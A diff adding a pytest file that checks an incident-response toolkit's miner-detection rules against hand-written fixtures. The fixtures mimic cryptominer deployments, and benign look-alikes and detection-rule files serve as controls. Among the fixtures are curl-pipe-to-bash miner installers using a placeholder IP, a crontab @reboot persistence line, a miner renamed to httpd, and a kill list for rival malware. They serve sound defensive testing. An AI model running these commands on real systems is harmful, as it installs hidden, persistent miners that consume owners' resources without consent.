@@ -1,0 +1,264 @@
+"""The miner families of docs/hunting.md: each synthetic fixture fires at medium or above and
+its benign twin stays at or below low; files that only mention miners stay at most low.
+
+Every fixture is written here, by hand, in the shape public miner files take (units,
+manifests, launchers, installers, configs); no public file is copied. Hosts are in
+example.invalid and 198.51.100.0/24, wallets are well-formed strings of nobody's.
+"""
+
+from pathlib import Path
+
+import pytest
+from yarasamples import ETH, POOL, RVN, XMR, _b58, elf
+
+from irkit.analysis.signals import command_starts_miner
+from irkit.evidence.records import severity_rank
+from irkit.hunt import compile_rules, scan_tree
+from irkit.hunt.rules import default_rules_path
+from irkit.hunt.windows import Extent, TargetResult, scan_extents
+from irkit.knowledge.miners import MINER_PROGRAMS
+
+PACK = compile_rules()
+KASPA = "kaspa:q" + ("qpzry9x8gf2tvdw0s3jn54khce6mua7l" * 2)[:60]
+ERGO = "9" + _b58(50, 11)
+ZEPHYR = "ZEPHYR" + _b58(92, 13)
+QRL = "Q" + ("0123456789abcdef" * 5)[:78]
+IRON = "ab" * 32
+TRON = "T" + _b58(33, 17)
+ETH_MIXED = "0x52908400098527886E0F7030069857D2E4169EE7"
+BTC = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
+LTC = "ltc1qg42tkwuuxefutzxezdkdel39gfstuap288mfea"
+XMR_SUB = "8B" + _b58(93, 19)
+XMR_INTEGRATED = "4B" + _b58(104, 23)
+
+FAMILIES: dict[str, dict[str, str]] = {
+    "1 started by name": {
+        "xmrig.service": "[Unit]\nDescription=x\n[Service]\n"
+        "ExecStart=/opt/xmrig/xmrig --config=/etc/xmrig/config.json\nRestart=always\n",
+        "miner-b.service": "[Service]\nExecStart=/usr/local/bin/xmrig -B\n",
+        "deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n"
+        "    spec:\n      containers:\n      - name: app\n        image: someone/xmrig:6.21\n",
+        "job.yaml": "kind: Job\nspec:\n  template:\n    spec:\n      containers:\n"
+        '      - name: w\n        image: alpine\n        command: ["xmrig"]\n',
+        "compose.yml": "services:\n  w:\n    image: someone/t-rex:0.26\n    restart: always\n",
+        "Dockerfile": 'FROM ubuntu:22.04\nCOPY xmrig /usr/bin/\nENTRYPOINT ["/usr/bin/xmrig"]\n',
+        "supervisor.conf": "[program:w]\ncommand=/opt/lolMiner/lolMiner\nautorestart=true\n",
+        "openrc": '#!/sbin/openrc-run\ncommand="/opt/xmrig/xmrig"\ncommand_background=true\n',
+        "rc.local": "#!/bin/sh\nnohup /root/.cache/xmrig >/dev/null 2>&1 &\nexit 0\n",
+        ".profile": "PATH=$PATH:$HOME/bin\n/home/u/.local/xmrig --background &\n",
+    },
+    "2 values in variables": {
+        "run.sh": f"#!/bin/bash\nPOOL={POOL}:3333\nWALLET={ETH}\nWORKER=rig1\n"
+        './miner --pool "$POOL" --user "$WALLET.$WORKER"\n',
+        "unit-echo.sh": '#!/bin/bash\necho -e "[Unit]\\nDescription=svc\\n[Service]\\n'
+        'ExecStart=/usr/local/bin/xmrig\\n" > /etc/systemd/system/svc.service\n',
+        "unit-tee.sh": "#!/bin/bash\ncat <<EOF | tee /etc/systemd/system/w.service\n[Service]\n"
+        "ExecStart=/opt/bzminer/bzminer -c /opt/bzminer/config.txt\nEOF\n",
+    },
+    "3 GPU dialects": {
+        "trex.sh": f"./t-rex -a kawpow -o stratum+tcp://{POOL}:3333 -u RVN:{RVN}.rig -p x\n",
+        "lolminer.sh": f"./lolMiner --algo ETHASH --pool {POOL}:2020 --user {ETH}.w "
+        f"--dualmode TONDUAL --dualpool {POOL}:4002 --dualuser w\n",
+        "bzminer.sh": f"./bzminer -a kaspa -w {KASPA} -p stratum+tcp://{POOL}:5555\n",
+        "trm.sh": f"./teamredminer -a kawpow -o stratum+tcp://{POOL}:3333 -u {RVN}.rig\n",
+        "gminer.sh": f"./miner --algo etchash --server {POOL} --port 1010 --user w.rig\n",
+        "gminer2.sh": f"./gminer --algo kheavyhash --server {POOL} --port 5555 --user {KASPA}\n",
+        "srb.sh": f"./SRBMiner-MULTI --algorithm yespower --pool stratum+tcps://{POOL}:443 "
+        "--wallet w.rig\n",
+        "config.ini": f"[Ethash]\nwallet = {ETH}\nrigName = rig1\npool1 = {POOL}:9999\n",
+        "nbminer.sh": f"./nbminer -a etchash -o stratum+tcp://{POOL}:1010 -u {ETH}.w\n",
+        "rigel.sh": f"./rigel -a kawpow -o stratum+tcp://{POOL}:3333 -u {RVN}.w\n",
+        "ozm.sh": f"./onezerominer -a dynex -w d0000000000000000000000 -o {POOL}:19000\n",
+        "unmineable.sh": f"./miner -o stratum+tcp://rx.unmineable.com:3333 -u TRX:{TRON}.w#ab-cd\n",
+    },
+    "4 wallets": {
+        "xmr": f"./x -o {POOL}:3333 -u {XMR}\n",
+        "xmr-sub": f"./x -o {POOL}:3333 -u {XMR_SUB}\n",
+        "xmr-integrated": f"--user {XMR_INTEGRATED}\n",
+        "eth": f"--wallet {ETH_MIXED}\n",
+        "rvn": f"-u {RVN}\n",
+        "kaspa": f"--wallet {KASPA}\n",
+        "ergo": f"--user {ERGO}\n",
+        "zephyr": f"-u {ZEPHYR}\n",
+        "qrl": f"--wallet {QRL}\n",
+        "iron": f"-u {IRON}\n",
+        "tron": f"--user {TRON}\n",
+        "btc": f"--user {BTC}\n",
+        "ltc": f"--user {LTC}\n",
+    },
+    "5 setup clones": {
+        "setup.sh": f'sed -i \'s/"url": *"[^"]*",/"url": "{POOL}:443",/\' '
+        "$HOME/c3pool/config.json\n"
+        'sed -i \'s/"max-threads-hint": *[^,]*,/"max-threads-hint": 75,/\' '
+        "$HOME/c3pool/config.json\n",
+        "oneliner.sh": "curl -s -L http://198.51.100.7/setup_c3pool_miner.sh "
+        f"| LC_ALL=en_US.UTF-8 bash -s {XMR}\n",
+        "sudo.sh": "curl -fsSL http://198.51.100.7/setup_moneroocean_miner.sh | sudo -E bash -\n",
+        "rename.sh": "cp /tmp/xmrig-6.21.0/xmrig /usr/bin/httpd\n",
+    },
+    "6 fetch or build": {
+        "fetch.sh": "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
+        "xmrig-6.21.0-linux-static-x64.tar.gz\ntar xf xmrig-6.21.0-linux-static-x64.tar.gz\n"
+        "nohup ./xmrig-6.21.0/xmrig >/dev/null 2>&1 &\n",
+        "build.sh": "git clone https://github.com/xmrig/xmrig.git\ncd xmrig && mkdir build && "
+        "cd build && cmake .. && make -j$(nproc)\nsysctl -w vm.nr_hugepages=1280\n",
+        "tune.sh": "modprobe msr\nsysctl -w vm.nr_hugepages=1280\nsystemctl start xmrig\n"
+        "systemctl enable xmrig\nsetsid /usr/local/bin/xmrig &\n",
+        "cron.sh": '(crontab -l; echo "@reboot /usr/local/bin/xmrig") | crontab -\n',
+    },
+}
+
+BENIGN: dict[str, dict[str, str]] = {
+    "1 started by name": {
+        "nginx.service": "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
+        "deployment.yaml": "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n"
+        '      - name: web\n        image: nginx:1.25\n        command: ["nginx"]\n',
+        "Dockerfile": 'FROM python:3.12\nENTRYPOINT ["gunicorn", "app:app"]\n',
+        "rc.local": "#!/bin/sh\nnohup /usr/local/bin/backup.sh &\nexit 0\n",
+    },
+    "2 values in variables": {
+        "db.sh": "DB_POOL_HOST=db.example.invalid:5432\n"
+        'psql --host "$DB_POOL_HOST" --user "$DB_USER" -c "select 1"\n',
+    },
+    "3 GPU dialects": {
+        "train.sh": "python train.py --algo ppo --server localhost:8080 --user alice -a 3\n",
+        "hashcat.sh": "hashcat -a 3 -w 3 -o found.txt hashes.txt\n",
+    },
+    "4 wallets": {
+        "hashes.txt": f"{IRON}  file.tar\ncommit {'a' * 40}\n{XMR[:40]}\n",
+    },
+    "5 setup clones": {
+        "nginx-setup.sh": 'sed -i \'s/"url": *"[^"]*"/"url": "x"/\' /etc/app/config.json\n'
+        "curl -fsSL https://get.docker.com | sh\nmv /tmp/build/httpd /usr/sbin/httpd\n",
+    },
+    "6 fetch or build": {
+        "build.sh": "git clone https://github.com/madler/zlib.git\ncd zlib && cmake . && make\n"
+        "sysctl -w vm.nr_hugepages=512  # postgres shared buffers\n",
+    },
+}
+
+
+def worst(root: Path) -> dict[str, str]:
+    """Highest severity per file name under `root` ('none' when nothing fired)."""
+    found = {p.name: "none" for p in root.iterdir()}
+    for result in scan_tree(PACK.rules, [root]):
+        for hit in result.hits:
+            name = Path(result.target).name
+            if severity_rank(hit.severity) > severity_rank(found[name]):
+                found[name] = hit.severity
+    return found
+
+
+def write(root: Path, files: dict[str, str]) -> Path:
+    root.mkdir(parents=True, exist_ok=True)
+    for name, content in files.items():
+        (root / name).write_text(content)
+    return root
+
+
+def at_most_low(severity: str) -> bool:
+    return severity == "none" or severity_rank(severity) <= severity_rank("low")
+
+
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+def test_family_fixture_fires_at_medium_or_above(family: str, tmp_path: Path) -> None:
+    found = worst(write(tmp_path / "f", FAMILIES[family]))
+    quiet = {name: sev for name, sev in found.items() if at_most_low(sev)}
+    assert quiet == {}
+
+
+@pytest.mark.parametrize("family", sorted(BENIGN))
+def test_benign_twin_stays_at_or_below_low(family: str, tmp_path: Path) -> None:
+    found = worst(write(tmp_path / "b", BENIGN[family]))
+    loud = {name: sev for name, sev in found.items() if not at_most_low(sev)}
+    assert loud == {}
+
+
+def test_every_known_miner_name_fires_in_a_unit(tmp_path: Path) -> None:
+    """The pack's launch rules and irkit/knowledge/miners.py name the same programs."""
+    units = {
+        f"{n}.service": f"[Service]\nExecStart=/opt/{n}/{n} --config=/etc/{n}.json\n"
+        for n in MINER_PROGRAMS
+    }
+    found = worst(write(tmp_path / "u", units))
+    assert {name for name, sev in found.items() if at_most_low(sev)} == set()
+    assert all(command_starts_miner(f"/opt/{n}/{n}") for n in MINER_PROGRAMS)
+
+
+def test_gpu_names_far_from_mining_context_stay_quiet(tmp_path: Path) -> None:
+    """A big list of package names: a miner's name and algorithm words megabytes apart."""
+    filler = "".join(f"package-{i}\n" for i in range(300_000))
+    listing = "lolminer\nnbminer\nt-rex\n" + filler + "ethash\nkawpow\n--pool\n--user\n"
+    found = worst(write(tmp_path / "p", {"names.txt": listing}))
+    assert at_most_low(found["names.txt"])
+
+
+def test_cpu_xmrig_with_cuda_loader_is_not_a_gpu_miner(tmp_path: Path) -> None:
+    binary = elf(
+        "XMRig/%s", "donate.v2.xmrig.com", "--donate-level", "libxmrig-cuda.so", "randomx",
+        "cuda", '"loader"', "kawpow", "cn/r", "stratum+tcp://",
+    )  # fmt: skip
+    (tmp_path / "xmrig").write_bytes(binary)
+    rules = {h.rule for r in scan_tree(PACK.rules, [tmp_path]) for h in r.hits}
+    assert "IRKIT_Miner_XMRig_ELF" in rules
+    assert not any(rule.startswith("IRKIT_Miner_GPU_") for rule in rules)
+
+
+def test_kill_list_alone_is_not_high(tmp_path: Path) -> None:
+    cleanup = "#!/bin/sh\npkill -f kinsing\npkill -f kdevtmpfsi\nrm -f /tmp/kinsing\n"
+    found = worst(write(tmp_path / "k", {"cleanup.sh": cleanup}))
+    assert at_most_low(found["cleanup.sh"])
+
+
+MENTIONS = {
+    "miners.yar": "rule Miner_Launch {\n  strings:\n"
+    f'    $a = "ExecStart=/opt/xmrig/xmrig --config=x"\n    $b = "-o {POOL}:3333 -u {XMR}"\n'
+    "  condition:\n    any of them\n}\n",
+    "sigma.yml": "title: Miner\nlogsource:\n  product: linux\n  category: process_creation\n"
+    f"detection:\n  sel:\n    CommandLine|contains: 'xmrig -o {POOL}:3333 -u {XMR}'\n"
+    "  condition: sel\n",
+    "osquery.conf": '{"queries": {"miners": {"query": "SELECT * FROM processes WHERE '
+    f"cmdline LIKE '%xmrig --pool {POOL}:3333 --user {ETH}%'"
+    '", "interval": 60}}}\n',
+    "falco.yaml": "- rule: Miner\n  desc: x\n  condition: spawned_process and proc.cmdline "
+    f'contains "xmrig -o {POOL}:3333 -u {XMR}"\n  output: miner (%proc.cmdline)\n',
+    "README.md": f"# Mining\n\nRun:\n\n```\n./xmrig -o {POOL}:3333 -u {XMR}\n```\n",
+}
+
+
+def test_files_that_only_mention_miners_stay_at_most_low(tmp_path: Path) -> None:
+    found = worst(write(tmp_path / "m", MENTIONS))
+    assert {name: sev for name, sev in found.items() if not at_most_low(sev)} == {}
+
+
+def test_the_same_text_outside_a_mention_container_fires(tmp_path: Path) -> None:
+    found = worst(write(tmp_path / "r", {"run.sh": f"./xmrig -o {POOL}:3333 -u {XMR}\n"}))
+    assert found["run.sh"] in ("high", "critical")
+
+
+def test_a_copy_of_irkits_own_pack_is_never_a_finding(tmp_path: Path) -> None:
+    copy = tmp_path / "opt" / "venv2" / "irkit" / "data" / "yara"
+    copy.mkdir(parents=True)
+    for source in sorted(default_rules_path().glob("*.yar")):
+        (copy / source.name).write_bytes(source.read_bytes())
+    hits = [(r.target, h.rule) for r in scan_tree(PACK.rules, [tmp_path]) for h in r.hits]
+    assert hits == []
+
+
+def test_mentions_cap_whole_documents_only() -> None:
+    """A bundle member is one document: capped. An image window is not: a rule file lying
+    next to a miner's launch line must not hide it; only the marker is dropped."""
+    data = MENTIONS["miners.yar"].encode()
+
+    def read_at(offset: int, size: int) -> bytes:
+        return data[offset : offset + size]
+
+    def scanned(kind: str) -> dict[str, str]:
+        result = scan_extents(PACK.rules, [Extent(0, len(data))], read_at, TargetResult("t", kind))
+        return {hit.rule: hit.severity for hit in result.hits}
+
+    member = scanned("bundle-member")
+    image = scanned("image")
+    assert member and all(at_most_low(sev) for sev in member.values())
+    assert any(not at_most_low(sev) for sev in image.values())
+    assert not any(rule.startswith("IRKIT_Mention_") for rule in {**member, **image})
